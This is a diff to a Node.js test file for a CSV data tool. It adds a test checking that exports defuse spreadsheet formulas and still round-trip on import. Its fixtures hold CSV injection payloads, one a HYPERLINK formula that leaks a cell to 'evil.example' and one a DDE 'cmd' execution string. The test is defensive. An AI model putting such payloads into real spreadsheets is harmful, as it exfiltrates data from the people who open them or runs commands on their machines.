@@ -3,7 +3,7 @@
 'use strict';
 const test = require('node:test');
 const assert = require('node:assert/strict');
-const { get, cli, tmpfile, summary } = require('./helpers');
+const { get, call, cli, tmpfile, summary } = require('./helpers');
 
 const GD3 = 'https://www.gapminder.org/data/documentation/gd003/';
 const HEAD = 'place,variable,year,value,source\n';
@@ -186,6 +186,49 @@ test('export: filters, and the round trip', async () => {
   assert.equal(s['facts unchanged'], s['rows read']);
   assert.equal(cli(['export', '--place', 'atlantis']).code, 1);
   assert.equal(cli(['export', '--from', 'abc']).code, 2);
+});
+
+test('formulas: every export puts an apostrophe before them, numbers stay, and it imports back unchanged', async () => {
+  const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1', '-x', '@SUM(A1)',
+    '\t=1', '\r=1', "'=1", "'plain", '-'];
+  // A file's apostrophe before a formula is the spreadsheets' mark of text,
+  // and goes: a note that begins with one is written with two.
+  const inFile = { "'=1": "''=1" };
+  const rows = notes.map((n, i) => `t-formula,t-vee,${2000 + i},${i % 2 ? '-3' : '-0.17'},` +
+    `https://example.org/t,"=cmd|' /C calc'!A0","${(inFile[n] ?? n).replace(/"/g, '""')}"`);
+  const file = tmpfile('formula.csv', 'place,variable,year,value,source,source_title,note\n' +
+    rows.join('\n') + '\n');
+  const made = cli(['import', '--create-missing', file]);
+  assert.equal(made.code, 0, made.stderr);
+  const series = (await get('/api/v1/series/t-formula/t-vee')).json;
+  assert.deepEqual(series.observations.map((o) => o.note), notes, 'the import took the notes as written');
+
+  const exported = cli(['export', '--place', 't-formula']).stdout;
+  const api = (await get('/api/v1/facts?place=t-formula&format=csv&limit=100')).text;
+  const seriesCsv = (await get('/api/v1/series/t-formula/t-vee?format=csv')).text;
+  for (const [what, csv] of [['factwiki export', exported], ['facts CSV', api], ['series CSV', seriesCsv]]) {
+    // No cell, quoted or not, starts with what a spreadsheet runs; numbers may.
+    for (const cell of csv.matchAll(/(?:^|,)("?)([^,\n]*)/gm)) {
+      assert.doesNotMatch(cell[2], /^[=@\t\r]|^[+-](?![0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$)/,
+        `${what}: a cell starts a formula: ${cell[0]}`);
+    }
+    assert.match(csv, /,"'=HYPERLINK\(""http:/, what);
+    assert.match(csv, /,-3,/, `${what}: -3 is still a number`);
+    assert.match(csv, /,-0\.17,/, `${what}: -0.17 is still a number`);
+    assert.match(csv, /,''=1/, `${what}: an apostrophe before a formula is kept apart from ours`);
+  }
+  const back = cli(['import', tmpfile('formula-back.csv', exported)]);
+  assert.equal(back.code, 0, back.stderr);
+  assert.equal(summary(back.stdout)['facts unchanged'], notes.length, back.stdout);
+  const name = `formula${process.pid}`;
+  assert.equal(cli(['user', 'add', name], 'formula test password\n').code, 0);
+  const token = cli(['token', 'create', name]).stdout.trim();
+  const viaApi = await call('POST', '/api/v1/imports', {
+    token, body: api, headers: { 'content-type': 'text/csv' },
+  });
+  assert.equal(viaApi.status, 200, viaApi.text);
+  assert.equal(viaApi.json.unchanged, notes.length, viaApi.text);
+  assert.deepEqual((await get('/api/v1/series/t-formula/t-vee')).json.observations.map((o) => o.note), notes);
 });
 
 test('exit status 2 on usage errors, 3 when the database is out of reach', () => {
